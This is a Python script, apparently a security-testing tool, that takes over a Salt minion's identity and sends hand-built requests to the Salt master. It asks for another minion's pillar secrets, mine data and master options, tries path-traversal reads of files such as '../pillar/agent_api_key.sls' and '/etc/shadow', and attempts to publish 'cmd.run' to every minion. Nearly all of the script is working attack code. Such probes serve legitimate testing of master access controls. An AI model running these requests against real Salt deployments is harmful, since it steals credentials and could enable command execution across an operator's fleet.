"""
What a minion that was taken over asks its master for; run by the Python of its own Salt.

`hostile.py <minion configuration> <id of the victim>` prints every answer. The requests are
made by hand, so that no check of Salt's own client stands between them and the master.
"""

import json
import sys

import salt.channel.client
import salt.config
import salt.exceptions

FILES = [
    "../pillar/top.sls", "../pillar/server_database.sls", "../pillar/agent_api_key.sls",
    "../../pillar/server_database.sls", "..%2fpillar/server_database.sls", "|../pillar/server_database.sls",
    "_modules/../../pillar/server_database.sls", "../etc/master", "/etc/shadow",
]  # fmt: skip


def requests(me, victim, grains):
    """Names and loads of everything that is asked."""
    ask = {"saltenv": "base", "ver": "2"}
    for minion in (me, victim):
        pillar = {**ask, "cmd": "_pillar", "id": minion, "grains": {**grains, "id": minion}}
        yield f"pillar of {minion}", pillar
        yield (
            f"pillar of {minion}, overridden",
            {
                **pillar,
                "pillar_override": {"rancher": {"roles": ["server", "agent"]}},
                "extra_minion_data": {"master_opts": grains},
            },
        )
        yield f"mine of {minion}", {"cmd": "_mine_get", "id": me, "tgt": minion, "fun": "*"}
        yield f"opts for {minion}", {"cmd": "_master_opts", "id": minion}
        yield f"tops for {minion}", {"cmd": "_master_tops", "id": minion, "opts": {"id": minion}}
    for environment in ("base", "../pillar", "__env__"):
        for kind in ("_file_list", "_dir_list", "_symlink_list", "_file_list_emptydirs"):
            load = {"cmd": kind, "saltenv": environment, "prefix": ""}
            yield f"{kind} {environment}", load
            yield f"{kind} {environment} above", {**load, "prefix": "../pillar"}
    for path in FILES:
        for kind in ("_serve_file", "_file_find", "_file_hash"):
            yield f"{kind} {path}", {**ask, "cmd": kind, "path": path, "loc": 0}
    for function in ("pillar.items", "cmd.run", "test.ping"):
        publish = {"id": me, "tgt": "*", "tgt_type": "glob", "fun": function, "arg": [], "ret": ""}
        yield f"publish {function}", {**publish, "cmd": "minion_pub", "tmo": 2, "form": "full"}
        yield f"publish {function}, waiting", {**publish, "cmd": "minion_publish", "tmo": 2}
    for function in ("pillar.show_pillar", "cache.pillar", "config.get", "jobs.list_jobs"):
        yield (
            f"runner {function}",
            {"cmd": "minion_runner", "id": me, "fun": function, "arg": [victim]},
        )


def main(path, victim):
    opts = salt.config.minion_config(path)
    opts["master_uri"] = f"tcp://{opts['master']}:{opts['master_port']}"
    me, grains = opts["id"], opts["grains"]
    with salt.channel.client.ReqChannel.factory(opts) as channel:
        for name, load in requests(me, victim, grains):
            try:
                if load["cmd"] == "_pillar":
                    answer = channel.crypted_transfer_decode_dictentry(
                        load, dictkey="pillar", tries=1, timeout=20
                    )
                else:
                    answer = channel.send(load, tries=1, timeout=20)
            except Exception as refusal:  # noqa: BLE001 - whatever it is, it is an answer
                answer = f"{type(refusal).__name__}: {refusal}"
            print(json.dumps({"asked": name, "answer": answer}, default=repr))


if __name__ == "__main__":
    main(*sys.argv[1:])
